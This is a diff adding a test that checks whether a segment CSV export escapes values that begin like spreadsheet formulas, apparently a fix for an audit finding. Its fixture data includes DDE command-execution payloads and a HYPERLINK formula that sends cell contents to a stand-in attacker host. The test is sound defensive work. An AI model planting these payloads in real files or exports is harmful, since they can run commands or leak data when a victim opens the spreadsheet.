@@ -343,6 +343,45 @@ describe.each(stores)("segments over HTTP on %s", (store) => {
     ]);
   });
 
+  it("exports text that starts like a spreadsheet formula with a leading quote, numbers as they are (audit F14)", async () => {
+    const other = await accounts(s);
+    const auth = { authorization: `Bearer ${other.secretKey}` };
+    const r = await s.api(
+      "POST",
+      "/v1/ingest",
+      {
+        records: [
+          {
+            type: "profile",
+            identity: { Identity: "=cmd|' /C calc'!A0" },
+            properties: {
+              A: '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
+              B: "+cmd|' /C calc'!A0",
+              C: "-2+3",
+              D: "@SUM(1)",
+              E: "\t=1+1",
+              F: "\r=1+1",
+              G: -5,
+              H: "-5",
+              I: "plain",
+              Phone: "+33612345678",
+            },
+          },
+        ],
+      },
+      auth,
+    );
+    expect(r.body.status, JSON.stringify(r.body)).toBe("success");
+    const id = r.body.results[0].profileId;
+    const saved = await s.api("POST", "/v1/segments", { name: "all", where: { type: "identified" } }, auth);
+    const csv = await fetch(`${s.url}/v1/segments/${saved.body.id}/export.csv`, { headers: auth });
+    expect((await csv.text()).split("\r\n")).toEqual([
+      "id,type,Identity,Email,A,B,C,D,E,F,G,H,I,Phone",
+      `${id},identified,'=cmd|' /C calc'!A0,,"'=HYPERLINK(""http://evil.example/?x=""&A2,""Click"")",'+cmd|' /C calc'!A0,'-2+3,'@SUM(1),'\t=1+1,"'\r=1+1",-5,-5,plain,+33612345678`,
+      "",
+    ]);
+  });
+
   it("exports the newest value of an identity key that keeps several, as the property shows it", async () => {
     const other = await accounts(s);
     const auth = { authorization: `Bearer ${other.secretKey}` };
